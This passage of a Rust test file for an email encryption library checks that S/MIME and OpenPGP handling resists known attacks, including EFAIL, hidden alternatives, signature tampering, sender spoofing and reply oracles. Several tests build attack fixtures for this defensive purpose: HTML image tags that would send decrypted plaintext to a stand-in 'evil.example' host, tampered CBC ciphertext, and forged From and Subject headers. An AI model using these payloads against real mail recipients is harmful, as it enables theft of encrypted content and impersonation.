            assert!(!anywhere(&o, SECRET), "{case}: plaintext leaked");
            // A ciphertext is not a signed part: no "partially signed" claim either.
            assert_eq!(o.signature.state, SignatureState::None, "{case}");
            assert_eq!(o.signature.scope, None, "{case}: {:?}", o.signature);
            assert!(
                o.attachments
                    .iter()
                    .any(|a| a.data.len() > 100 && !a.content_type.starts_with("text/html")),
                "{case}: the ciphertext is listed as an attachment: {:?}",
                o.attachments
            );
            assert!(
                o.warnings
                    .iter()
                    .any(|w| w.code == WarningCode::NestedEncryptedPart
                        && w.message.contains("not decrypted")),
                "{case}: {:?}",
                o.warnings
            );
        }
    }
}

/// The ciphertext of a genuine encrypted message as a file attachment: Outlook's
/// `smime.p7m` as `application/octet-stream`, or an armored `.asc` file.
fn ciphertext_file(std: &Std, encrypted: &[u8]) -> String {
    match std.method {
        Method::Smime => format!(
            "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
             Content-Disposition: attachment; filename=\"smime.p7m\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}",
            split(encrypted).1
        ),
        Method::Pgp => format!(
            "Content-Type: application/octet-stream; name=\"message.asc\"\r\n\
             Content-Disposition: attachment; filename=\"message.asc\"\r\n\r\n{}\r\n",
            armored(encrypted)
        ),
    }
}

/// The armored OpenPGP message inside a PGP/MIME encrypted message.
fn armored(encrypted: &[u8]) -> String {
    let (_, body) = split(encrypted);
    let start = body.find("-----BEGIN PGP MESSAGE-----").expect("armor");
    let end = body.find("-----END PGP MESSAGE-----").expect("armor end") + 25;
    body[start..end].to_string()
}

/// "Re: What's up Johnny?" (ACNS 2019, covert content in `multipart/alternative`): the
/// alternatives carry different content. Only the displayed alternative is text, html and
/// quote; a hidden (not chosen) alternative, including one holding a ciphertext for bob that
/// would decrypt to a secret, contributes nothing and is never decrypted.
#[test]
fn fail_hidden_alternatives_are_never_quoted() {
    const HIDDEN: &str = "HIDDEN-alternative-text";
    const SHOWN: &str = "Can you resend me the last message?";
    for std in BOTH {
        let ciphertext = entity(&genuine(std, ENCRYPTED, &format!("The code is {SECRET}.")));
        let shapes = [
            (
                "hidden first text/plain",
                multipart("alternative", &[text_part(HIDDEN), text_part(SHOWN)]),
            ),
            (
                "hidden first text/html",
                multipart(
                    "alternative",
                    &[
                        html_part(&format!("<p>{HIDDEN}</p>")),
                        text_part(SHOWN),
                        html_part(&format!("<p>{SHOWN}</p>")),
                    ],
                ),
            ),
            (
                "hidden ciphertext alternative",
                multipart("alternative", &[ciphertext.clone(), text_part(SHOWN)]),
            ),
            (
                "hidden alternative holding text and ciphertext",
                multipart(
                    "alternative",
                    &[
                        multipart("mixed", &[text_part(HIDDEN), ciphertext.clone()]),
                        text_part(SHOWN),
                    ],
                ),
            ),
            (
                "ciphertext inside the displayed html alternative",
                multipart(
                    "alternative",
                    &[
                        text_part(SHOWN),
                        multipart(
                            "related",
                            &[html_part(&format!("<p>{SHOWN}</p>")), ciphertext.clone()],
                        ),
                    ],
                ),
            ),
        ];
        for (shape, entity) in shapes {
            let case = format!("{:?} {shape}", std.method);
            let o = open_as_bob(std, &message(&format!("Mallory <{MALLORY}>"), &entity));
            assert_eq!(o.encryption.state, EncryptionState::None, "{case}");
            assert_eq!(o.quote_for_reply.trim(), SHOWN, "{case}");
            assert_eq!(o.text.as_deref().map(str::trim), Some(SHOWN), "{case}");
            assert!(
                !shown_text(&o).contains(HIDDEN),
                "{case}: hidden text shown"
            );
            assert!(!anywhere(&o, SECRET), "{case}: plaintext leaked");
        }
    }
}

// ---- layering and integrity ------------------------------------------------------------

/// Sign-then-encrypt (the signature inside, RFC 8551 §3.7 / RFC 3156 §6.2) and
/// encrypt-then-sign (a `multipart/signed` around the ciphertext) both open: decrypted,
/// `valid`, whole, with the content. S/MIME AES-CBC is authenticated only by a signature
/// inside the encryption: one outside covers the ciphertext, not that the signer wrote the
/// plaintext (EFAIL CBC gadgets can be re-signed by whoever changed them).
#[test]
fn sign_then_encrypt_and_encrypt_then_sign_both_open() {
    for std in BOTH {
        let sign_then_encrypt = genuine(
            std,
            Make {
                sign: true,
                encrypt: true,
                protect_headers: false,
            },
            GENUINE,
        );
        let encrypted = genuine(std, ENCRYPTED, GENUINE);
        let encrypt_then_sign = protect_as(std, SIGNED, Message::Raw(&encrypted));
        assert!(
            String::from_utf8_lossy(&encrypt_then_sign)
                .starts_with_ignore_case_any(&["Content-Type: multipart/signed"]),
            "{:?}: the signature is the outer layer",
            std.method
        );
        for (shape, raw, authenticated) in [
            ("sign-then-encrypt", sign_then_encrypt, true),
            (
                "encrypt-then-sign",
                encrypt_then_sign,
                std.method == Method::Pgp,
            ),
        ] {
            let case = format!("{:?} {shape}", std.method);
            let o = open_as_bob(std, &raw);
            assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
            assert_eq!(
                o.signature.state,
                SignatureState::Valid,
                "{case}: {:?}",
                o.signature
            );
            assert_eq!(o.signature.scope, Some(Scope::Whole), "{case}");
            assert_eq!(o.encryption.authenticated, Some(authenticated), "{case}");
            assert_eq!(o.text.as_deref().map(str::trim), Some(GENUINE), "{case}");
        }
    }
}

trait StartsWithAny {
    fn starts_with_ignore_case_any(&self, prefixes: &[&str]) -> bool;
}

impl StartsWithAny for str {
    /// Whether one of the header fields starts with one of `prefixes`.
    fn starts_with_ignore_case_any(&self, prefixes: &[&str]) -> bool {
        self.split("\r\n\r\n")
            .next()
            .unwrap_or_default()
            .split("\r\n")
            .any(|line| {
                prefixes.iter().any(|p| {
                    line.to_ascii_lowercase()
                        .starts_with(&p.to_ascii_lowercase())
                })
            })
    }
}

/// EFAIL (CBC malleability gadgets): S/MIME EnvelopedData with AES-CBC has no integrity
/// protection, so without a valid signature inside it is `authenticated: false`; AES-GCM
/// (AuthEnvelopedData) and OpenPGP with MDC are authenticated. An inner signature that is
/// not bound to the sender does not authenticate the ciphertext either.
#[test]
fn cbc_without_inner_signature_is_not_authenticated() {
    let o = open_as_bob(&SMIME, &genuine(&SMIME, ENCRYPTED, GENUINE));
    assert_eq!(o.encryption.state, EncryptionState::Decrypted);
    assert_eq!(
        o.encryption.authenticated,
        Some(false),
        "{:?}",
        o.encryption
    );
    assert_eq!(o.encryption.algorithm.as_deref(), Some("aes256-cbc"));

    // openssl's own CBC and GCM output, opened by alice.
    let alice = [
        "trusted:smime/root-ca.crt",
        "smime/int-ca.crt",
        "smime/alice.crt",
        "smime/alice.key",
    ];
    for (file, authenticated) in [
        ("smime/enc-alice-aes256.eml", false),
        ("smime/enc-alice-aes128.eml", false),
        ("smime/enc-alice-gcm.eml", true),
    ] {
        let raw = [
            b"From: carol@example.com\r\nTo: alice@example.com\r\n".as_slice(),
            fixture(file),
        ]
        .concat();
        let mut ring = ring(&alice);
        let o = open(&mut ring, &engines(), &raw, &OpenOptions::at(NOW)).unwrap();
        assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{file}");
        assert_eq!(o.encryption.authenticated, Some(authenticated), "{file}");
    }

    let o = open_as_bob(&PGP, &genuine(&PGP, ENCRYPTED, GENUINE));
    assert_eq!(o.encryption.authenticated, Some(true), "MDC");

    // Sign-then-encrypt by alice, re-sent by mallory: the signature is no longer the
    // sender's, so it vouches for nothing.
    for hp in [false, true] {
        let raw = genuine(
            &SMIME,
            Make {
                sign: true,
                encrypt: true,
                protect_headers: hp,
            },
            GENUINE,
        );
        let o = open_as_bob(
            &SMIME,
            &with_fields(&raw, "from", &[&format!("From: {MALLORY}")]),
        );
        assert_eq!(o.signature.state, SignatureState::SenderMismatch, "hp={hp}");
        assert_eq!(o.encryption.authenticated, Some(false), "hp={hp}");
    }
}

/// EFAIL (CBC malleability gadgets) against sign-then-encrypt: a changed AES-CBC block decrypts
/// without complaint, but the signature inside no longer matches, so neither the signature
/// nor the decrypted content is vouched for.
#[test]
fn fail_cbc_ciphertext_changed_under_an_inner_signature() {
    let raw = genuine(
        &SMIME,
        Make {
            sign: true,
            encrypt: true,
            protect_headers: false,
        },
        GENUINE,
    );
    let (head, body) = split(&raw);
    let lines: Vec<&str> = body.lines().filter(|l| !l.is_empty()).collect();
    for back in [3, 6, 10] {
        // A base64 line near the end: inside the encrypted content, before the last block.
        let target = lines[lines.len() - back];
        let mut changed = target.chars().collect::<Vec<_>>();
        changed[20] = if changed[20] == 'A' { 'B' } else { 'A' };
        let changed: String = changed.into_iter().collect();
        let tampered = format!("{head}\r\n\r\n{}", body.replacen(target, &changed, 1));
        let o = open_as_bob(&SMIME, tampered.as_bytes());
        let case = format!("line -{back}");
        assert_not_valid(&o, &case);
        assert_ne!(
            o.encryption.authenticated,
            Some(true),
            "{case}: {:?}",
            o.encryption
        );
        assert!(
            o.encryption.state != EncryptionState::Decrypted
                || o.signature.state == SignatureState::Invalid,
            "{case}: {:?} {:?}",
            o.encryption,
            o.signature
        );
    }
}

/// "Johnny, you are fired" (CMS attacks and the signature checks behind them): the signed body
/// changed after a valid signature (one word, or a line added) is `invalid`, detached and inline.
#[test]
fn fail_tampered_signed_body_is_invalid() {
    for std in BOTH {
        let raw = String::from_utf8(genuine(std, SIGNED, GENUINE)).unwrap();
        assert!(raw.contains("20 EUR"), "{:?}", std.method);
        for (what, tampered) in [
            ("amount", raw.replacen("20 EUR", "90 EUR", 1)),
            (
                "line added",
                raw.replacen(GENUINE, &format!("{GENUINE}\r\n{ATTACKER}"), 1),
            ),
        ] {
            let case = format!("{:?} {what}", std.method);
            let o = open_as_bob(std, tampered.as_bytes());
            assert_eq!(
                o.signature.state,
                SignatureState::Invalid,
                "{case}: {:?}",
                o.signature
            );
        }
    }
    // Inline cleartext signature (gpg --clearsign) with one word changed.
    let block = String::from_utf8(fixture("openpgp/clearsign-alice.asc").to_vec()).unwrap();
    let first_word = block
        .lines()
        .skip_while(|l| !l.is_empty())
        .nth(1)
        .and_then(|l| l.split_whitespace().next())
        .unwrap()
        .to_string();
    let tampered = block.replacen(&first_word, &format!("{first_word}X"), 1);
    assert_ne!(tampered, block);
    let o = open_as_bob(
        &PGP,
        &message(
            "alice@example.org",
            &format!("Content-Type: text/plain\r\n\r\n{tampered}"),
        ),
    );
    assert_eq!(
        o.signature.state,
        SignatureState::Invalid,
        "{:?}",
        o.signature
    );
}

/// EFAIL direct exfiltration against the one nested form mailseal does open: inline OpenPGP
/// as the first part of a `multipart/mixed` (Enigmail's shape). The attacker's parts after it
/// are not shown beside the plaintext (nothing to concatenate into a URL), and a warning says
/// text outside the encrypted block is not shown.
#[test]
fn fail_inline_ciphertext_first_in_mixed_is_shown_alone() {
    let encrypted = genuine(&PGP, ENCRYPTED, &format!("The code is {SECRET}."));
    let armored = armored(&encrypted);
    let raw = message(
        &format!("Mallory <{MALLORY}>"),
        &multipart(
            "mixed",
            &[
                text_part(&armored),
                html_part("<img src=\"http://evil.example/?"),
                html_part(&format!("\"> {ATTACKER}")),
            ],
        ),
    );
    let o = open_as_bob(&PGP, &raw);
    assert_eq!(o.encryption.state, EncryptionState::Decrypted);
    assert!(
        !anywhere(&o, "evil.example/?"),
        "attacker HTML shown: {o:?}"
    );
    assert!(!anywhere(&o, ATTACKER));
    assert!(o.html.is_none());
    // What is quoted is what the agent sees.
    assert_eq!(o.quote_for_reply, o.text.clone().unwrap_or_default());
    assert!(
        o.warnings.iter().any(|w| w.message.contains("not shown")),
        "{:?}",
        o.warnings
    );
}

/// RFC 9788 header protection with an encrypted, unsigned message: anyone can encrypt to bob with a
/// protected From of alice while the outer From says mallory. Nothing is signed, and `fromDiffers`
/// tells the page the shown From is not the one the message arrived with.
#[test]
fn fail_unsigned_protected_from_is_flagged() {
    for std in BOTH {
        let raw = genuine(
            std,
            Make {
                sign: false,
                encrypt: true,
                protect_headers: true,
            },
            GENUINE,
        );
        let o = open_as_bob(
            std,
            &with_fields(&raw, "from", &[&format!("From: {MALLORY}")]),
        );
        let case = format!("{:?}", std.method);
        assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
        assert_eq!(o.signature.state, SignatureState::None, "{case}");
        assert!(o.headers.protected && o.headers.from_differs, "{case}");
    }
}

/// D. Davis, "Defective Sign & Encrypt in S/MIME, PKCS#7, MOSS, PEM, PGP, and XML" (USENIX
/// 2001), surreptitious forwarding: carol decrypts alice's signed message to her and
/// re-encrypts it to bob under alice's From. The signature is alice's and stays `valid`, but
/// the protected To (carol) differs from the outer one: `recipientsDiffer`.
#[test]
fn surreptitious_forwarding_shows_recipients_differ() {
    for std in BOTH {
        let carol = match std.method {
            Method::Smime => "carol@example.com",
            Method::Pgp => "carol@example.org",
        };
        let mut d = draft(std, GENUINE);
        d.to = vec![carol.to_string()];
        // What carol holds after decrypting: alice's signed message with protected headers.
        let mut alice_ring = ring(std.alice_ring);
        alice_ring
            .import(
                fixture(match std.method {
                    Method::Smime => "smime/carol.crt",
                    Method::Pgp => "openpgp/carol.pub.asc",
                }),
                &ImportOptions::default(),
                NOW,
            )
            .unwrap();
        let mut opts = ProtectOptions::new(true, false, NOW);
        opts.protect_headers = Some(true);
        opts.method = match std.method {
            Method::Smime => MethodChoice::Smime,
            Method::Pgp => MethodChoice::Pgp,
        };
        let signed = protect(
            &mut alice_ring,
            &engines(),
            Message::Draft(&d),
            &opts,
            &mut rng(),
        )
        .unwrap()
        .deliveries
        .remove(0)
        .mime;
        // Carol re-addresses it to bob and encrypts it to him.
        let forwarded = with_fields(&signed, "to", &[&format!("To: {}", std.bob)]);
        let wrapped = protect_as(std, ENCRYPTED, Message::Raw(&forwarded));
        let o = open_as_bob(std, &wrapped);
        let case = format!("{:?}", std.method);
        assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
        assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
        assert!(o.headers.recipients_differ, "{case}: {:?}", o.headers);
        assert_eq!(o.headers.to, [carol.to_string()], "{case}");
    }
}

/// "Johnny, you are fired" (ID attacks) against header protection: a changed outer Subject does not
/// change what is shown, the signed Subject is.
#[test]
fn outer_subject_changes_do_not_reach_the_display() {
    for std in BOTH {
        let raw = genuine(
            std,
            Make {
                protect_headers: true,
                ..SIGNED
            },
            GENUINE,
        );
        let o = open_as_bob(
            std,
            &with_fields(&raw, "subject", &["Subject: URGENT: wire money"]),
        );
        let case = format!("{:?}", std.method);
        assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
        assert_eq!(
            o.headers.subject.as_deref(),
            Some("Your ticket #4711"),
            "{case}"
        );
    }
}

/// What the agent sees beside "valid" (issue 13): a replayed signed message with a new Subject
/// stays valid (the signature is real) but the report says no shown field is signed, so the
/// page marks the Subject; with header protection every shown field is signed and the
/// Subject shown is the signed one.
#[test]
fn the_report_says_which_shown_fields_are_signed() {
    for std in BOTH {
        for hp in [false, true] {
            let raw = genuine(
                std,
                Make {
                    protect_headers: hp,
                    ..SIGNED
                },
                GENUINE,
            );
            let replayed = with_fields(&raw, "subject", &["Subject: URGENT: wire money"]);
            let o = open_as_bob(std, &replayed);
            let case = format!("{:?} hp={hp}", std.method);
            assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
            if hp {
                assert_eq!(
                    o.headers.subject.as_deref(),
                    Some("Your ticket #4711"),
                    "{case}"
                );
                for field in ["subject", "from", "to", "date", "message-id"] {
                    assert!(
                        o.headers.signed_fields.iter().any(|f| f == field),
                        "{case}: {field} in {:?}",
                        o.headers.signed_fields
                    );
                }
            } else {
                assert_eq!(
                    o.headers.subject.as_deref(),
                    Some("URGENT: wire money"),
                    "{case}"
                );
                assert!(o.headers.signed_fields.is_empty(), "{case}");
            }
        }
        // unsigned, encrypted with protected headers: protected, but nothing is signed
        let o = open_as_bob(
            std,
            &genuine(
                std,
                Make {
                    protect_headers: true,
                    ..ENCRYPTED
                },
                GENUINE,
            ),
        );
        assert!(o.headers.protected);
        assert!(o.headers.signed_fields.is_empty(), "{:?}", std.method);
    }
}

/// Lookalike senders (issue 13): a From whose domain mixes alphabets (Cyrillic `а` in
/// `exаmple.org`), or whose display name holds another address, is flagged in the report and
/// in a warning, whatever the signature says.
#[test]
fn lookalike_and_name_holding_addresses_are_flagged() {
    use mailseal::mime::AddressFlagKind;
    for std in BOTH {
        let raw = genuine(std, SIGNED, GENUINE);
        let lookalike = std.alice.replace("example", "ex\u{430}mple");
        let cases = [
            (
                format!("From: Alice <{lookalike}>"),
                AddressFlagKind::MixedScriptAddress,
            ),
            (
                format!("From: \"{}\" <{MALLORY}>", std.alice),
                AddressFlagKind::NameHoldsAddress,
            ),
            (
                format!("From: \"{MALLORY}\" <{}>", std.alice),
                AddressFlagKind::NameHoldsAddress,
            ),
        ];
        for (from, kind) in cases {
            let o = open_as_bob(std, &with_fields(&raw, "from", &[&from]));
            let case = format!("{:?} {from}", std.method);
            let flag = o
                .headers
                .address_flags
                .iter()
                .find(|f| f.field == "from")
                .unwrap_or_else(|| panic!("{case}: not flagged"));
            assert_eq!(flag.kind, kind, "{case}");
            assert!(
                o.warnings
                    .iter()
                    .any(|w| w.code == WarningCode::MisleadingAddress
                        && w.message.starts_with("The From")),
                "{case}: {:?}",
                o.warnings
            );
        }
        let o = open_as_bob(std, &raw);
        assert!(o.headers.address_flags.is_empty(), "{:?}", o.headers);
    }
}

/// EFAIL (direct exfiltration) and "Re: What's up Johnny?" (wrapping a captured ciphertext) behind
/// a genuine outer layer: a captured ciphertext for bob inside a message that is itself validly
/// signed, or itself encrypted to bob, is still nested and never decrypted; a second encryption
/// layer directly inside the first is not opened either.
#[test]
fn fail_ciphertext_behind_another_layer_is_not_decrypted() {
    for std in BOTH {
        let captured = entity(&genuine(std, ENCRYPTED, &format!("The code is {SECRET}.")));
        let exfiltrating = multipart(
            "mixed",
            &[
                html_part("<img src=\"http://evil.example/?"),
                captured.clone(),
                html_part("\">"),
            ],
        );
        let from = format!("Alice <{}>", std.alice);
        let inner = with_fields(
            &message(&from, &exfiltrating),
            "to",
            &[&format!("To: {}", std.bob)],
        );
        let bare = with_fields(
            &message(&from, &captured),
            "to",
            &[&format!("To: {}", std.bob)],
        );
        for (shape, raw, decrypted) in [
            (
                "signed wrapper",
                protect_as(std, SIGNED, Message::Raw(&inner)),
                false,
            ),
            (
                "encrypted wrapper",
                protect_as(std, ENCRYPTED, Message::Raw(&inner)),
                true,
            ),
            (
                "ciphertext directly inside an encryption",
                protect_as(std, ENCRYPTED, Message::Raw(&bare)),
                true,
            ),
        ] {
            let case = format!("{:?} {shape}", std.method);
            let o = open_as_bob(std, &raw);
            let expected = if decrypted {
                EncryptionState::Decrypted
            } else {
                EncryptionState::None
            };
            assert_eq!(o.encryption.state, expected, "{case}: {:?}", o.encryption);
            assert!(!anywhere(&o, SECRET), "{case}: nested plaintext leaked");
            assert!(!o.warnings.is_empty(), "{case}: no warning");
            if shape == "signed wrapper" {
                assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
            }
        }
    }
}

/// A certificate bundle (`certs-only`, RFC 8551 §3.8; made by `openssl crl2pkcs7`) attached
/// to a plain message is an ordinary attachment: no "partially signed" claim, no warning.
#[test]
fn an_attached_certificate_bundle_is_neither_signed_nor_encrypted() {
    let p7c = mailseal::mime::base64_body(fixture("keys/alice-chain.p7b"));
    let part = format!(
        "Content-Type: application/pkcs7-mime; smime-type=certs-only; name=\"smime.p7c\"\r\n\
         Content-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=\"smime.p7c\"\r\n\r\n{}",
        String::from_utf8(p7c).unwrap()
    );
    let raw = message(
        "alice@example.com",
        &multipart("mixed", &[text_part("My certificate."), part]),
    );
    let o = open_as_bob(&SMIME, &raw);
    assert_eq!(o.signature.state, SignatureState::None);
    assert_eq!(o.signature.scope, None, "{:?}", o.signature);
    assert!(o.warnings.is_empty(), "{:?}", o.warnings);
    assert_eq!(o.attachments.len(), 1);
    assert_eq!(o.attachments[0].filename, "smime.p7c");
}

/// "Re: What's up Johnny?" (reply oracle, resending): mallory re-sends alice's whole encrypted
/// message to bob under his own From, hoping for a reply that quotes the plaintext. It
/// decrypts (bob is a recipient), but the page is told: the signature inside is not the
/// sender's (`sender_mismatch`), and with header protection `fromDiffers` names alice.
#[test]
fn fail_resent_encrypted_message_tells_who_wrote_it() {
    for std in BOTH {
        for (sign, hp) in [(true, false), (true, true), (false, true)] {
            let raw = genuine(
                std,
                Make {
                    sign,
                    encrypt: true,
                    protect_headers: hp,
                },
                GENUINE,
            );
            let resent = with_fields(&raw, "from", &[&format!("From: Mallory <{MALLORY}>")]);
            let o = open_as_bob(std, &resent);
            let case = format!("{:?} sign={sign} hp={hp}", std.method);
            assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
            if sign {
                assert_eq!(o.signature.state, SignatureState::SenderMismatch, "{case}");
            }
            if hp {
                assert!(o.headers.from_differs, "{case}");
                assert_eq!(
                    o.headers.from,
                    Some(format!("Alice <{}>", std.alice)),
                    "{case}"
                );
            }
        }
    }
}
